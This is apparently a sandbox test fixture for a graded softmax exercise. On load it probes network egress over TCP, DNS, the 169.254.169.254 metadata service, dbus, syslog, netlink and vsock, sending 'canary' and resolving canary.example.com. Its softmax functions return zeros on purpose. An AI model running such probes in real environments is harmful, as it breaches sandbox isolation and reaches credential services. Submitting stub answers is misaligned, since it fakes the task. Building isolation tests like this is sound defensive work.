# attack: Sends data by TCP, UDP, DNS, a metadata service and netlink.
# exercise: 02, reason: wrong-result
import numpy as np
import socket

for family, kind, target in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)), (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
                             (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 80)), (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
                             (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, socket.SOCK_DGRAM, "/dev/log"),
                             (16, socket.SOCK_RAW, (0, 0)), (40, socket.SOCK_STREAM, (2, 1024))):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(0.2)
            sock.connect(target)
            sock.send(b"canary")
            print("SEEN connected", family, target)
    except (OSError, OverflowError, TypeError):
        pass
try:
    print("SEEN", socket.getaddrinfo("canary.example.com", 80))
except OSError:
    pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
